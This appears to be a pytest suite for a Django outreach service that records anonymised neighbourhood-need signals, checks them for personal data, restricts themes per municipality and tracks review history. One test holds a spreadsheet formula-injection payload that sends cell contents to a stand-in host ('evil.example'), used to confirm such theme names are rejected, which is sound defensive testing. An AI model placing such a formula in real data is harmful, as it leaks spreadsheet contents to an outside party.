"""Signals: recorded without personal data, reviewed, forwarded as theme and count."""

import pytest
from django.core.exceptions import ValidationError
from django.utils import translation

from outreach.models import Signal, SignalStatus, SignalTheme
from outreach.services.signals import (
    personal_data_hints,
    signal_forward,
    signal_record,
    signal_set_aside,
)
from tests.helpers import client_for


def record(world, description="Veel gezinnen kunnen de energierekening niet betalen.", **extra):
    return signal_record(
        team=world.household.team,
        theme=SignalTheme.objects.get(name="Schulden"),
        neighbourhood_code=extra.pop("code", "BU16740101"),
        description=description,
        households_concerned=extra.pop("households", 5),
        recorded_by=world.peer,
        **extra,
    )


@pytest.mark.parametrize(
    ("text", "hint"),
    [
        ("Mevrouw Jansen heeft geen geld voor de huur", "a name"),
        ("Kees de Vries zit in de schulden", "a name"),
        ("Bel haar op 06-12345678", "a phone number"),
        ("Mail naar hulp@example.nl", "an e-mail address"),
        ("Woont op 4701 AB", "a postcode"),
    ],
)
def test_text_that_looks_personal_is_recognised(text, hint):
    with translation.override("en"):
        assert hint in personal_data_hints(text)


def test_a_plain_description_of_a_need_has_no_hints():
    text = "In de wijk Kalsdonk wachten 12 gezinnen op een schuldhulpmaatje."
    assert personal_data_hints(text) == []


def test_a_signal_that_looks_personal_is_refused_until_confirmed(world):
    with translation.override("en"), pytest.raises(ValidationError, match="a phone number"):
        record(world, description="Gezin belt steeds 0612345678 maar krijgt geen antwoord")
    assert not Signal.objects.exists()
    signal = record(
        world,
        description="Gezin belt steeds 0612345678 maar krijgt geen antwoord",
        confirmed_no_personal_data=True,
    )
    assert signal.pk


def test_the_api_warns_about_personal_data_in_english_and_dutch(world):
    payload = {
        "theme": SignalTheme.objects.get(name="Schulden").pk,
        "neighbourhood_code": "BU16740101",
        "description": "Mevrouw Bakker kan de huur niet betalen",
        "households_concerned": 1,
    }
    english = client_for(world.peer).post(
        "/api/v1/signals/", payload, format="json", HTTP_ACCEPT_LANGUAGE="en"
    )
    dutch = client_for(world.peer).post("/api/v1/signals/", payload, format="json")
    assert english.status_code == dutch.status_code == 400
    assert "a name" in english.json()["description"][0]
    assert "een naam" in dutch.json()["description"][0]


def test_bad_signal_input_gets_field_errors(world):
    response = client_for(world.coordinator).post(
        "/api/v1/signals/",
        {"theme": SignalTheme.objects.get(name="Schulden").pk, "neighbourhood_code": "4701",
         "description": "x", "households_concerned": 0},
        format="json",
    )  # fmt: skip
    assert response.status_code == 400
    assert {"neighbourhood_code", "households_concerned"} <= set(response.json())


def test_a_signal_is_reviewed_once_and_the_forward_is_in_the_history(world):
    signal = signal_forward(
        signal=record(world), forwarded_by=world.coordinator, confirmed_no_personal_data=True
    )
    assert signal.status == SignalStatus.FORWARDED and signal.reviewed_by == world.coordinator
    assert signal.history.filter(history_change_reason="forwarded").exists()
    with pytest.raises(ValidationError):
        signal_set_aside(signal=signal, reviewed_by=world.coordinator, note="x")


def test_setting_aside_needs_a_reason(world):
    response = client_for(world.coordinator).post(
        f"/api/v1/signals/{record(world).pk}/set-aside/", {"note": ""}, format="json"
    )
    assert response.status_code == 400 and "note" in response.json()


def test_the_team_chooses_from_the_list_of_its_municipality_and_adds_no_theme(world):
    # Given the administrator's list: the shared themes, one of this municipality, one of
    # another municipality, and one taken off the list
    from outreach.models import Municipality

    municipality = world.household.team.municipality
    SignalTheme.objects.create(name="Vervoer", municipality=municipality)
    elsewhere = Municipality.objects.create(code="GM0363", name="Amsterdam")
    SignalTheme.objects.create(name="Grachten", municipality=elsewhere)
    SignalTheme.objects.create(name="Niet nagekeken", municipality=municipality, listed=False)
    client = client_for(world.coordinator)
    # When the coordinator reads the list, then it holds the shared and their own themes
    names = [t["name"] for t in client.get("/api/v1/signal-themes/").json()]
    assert "Vervoer" in names and "Schulden" in names
    assert "Grachten" not in names and "Niet nagekeken" not in names
    # And nobody adds a theme through the API
    response = client.post("/api/v1/signal-themes/", {"name": "Eigen tekst"}, format="json")
    assert response.status_code == 405
    assert not SignalTheme.objects.filter(name="Eigen tekst").exists()


def test_a_theme_not_on_the_list_cannot_be_chosen(world):
    theme = SignalTheme.objects.create(
        name="Niet nagekeken", municipality=world.household.team.municipality, listed=False
    )
    with pytest.raises(ValidationError):
        signal_record(team=world.household.team, theme=theme, neighbourhood_code="BU16740101",
                      description="Een behoefte", households_concerned=3,
                      recorded_by=world.coordinator)  # fmt: skip


def test_a_theme_name_cannot_start_like_a_formula(db):
    with pytest.raises(ValidationError):
        SignalTheme(name='=HYPERLINK("https://evil.example/?"&A1,"x12")').full_clean()


def test_the_data_migration_takes_themes_typed_by_coordinators_off_the_list(world):
    # Given a theme a coordinator typed in before the list was the administrator's, and a
    # legacy name that starts like a formula
    import importlib

    from django.apps import apps

    typed = SignalTheme.objects.create(name="Fam. Jansen Kade 12 ontruiming",
                                       municipality=world.household.team.municipality,
                                       created_by=world.coordinator)  # fmt: skip
    formula = SignalTheme.objects.create(name="=1+1", municipality=None)
    shared = SignalTheme.objects.get(name="Schulden")
    # When the data migration runs
    migration = importlib.import_module(
        "outreach.migrations.0009_unlist_themes_typed_by_coordinators"
    )
    migration.unlist(apps, None)
    # Then both are off the list and cannot be chosen; the starting list stays
    for theme in (typed, formula):
        theme.refresh_from_db()
        assert not theme.listed and not theme.active
    shared.refresh_from_db()
    assert shared.listed and shared.active


def test_the_history_names_who_recorded_and_who_forwarded(world):
    signal = signal_forward(
        signal=record(world), forwarded_by=world.coordinator, confirmed_no_personal_data=True
    )
    users = list(signal.history.order_by("history_date").values_list("history_user", flat=True))
    assert users == [world.peer.pk, world.coordinator.pk]
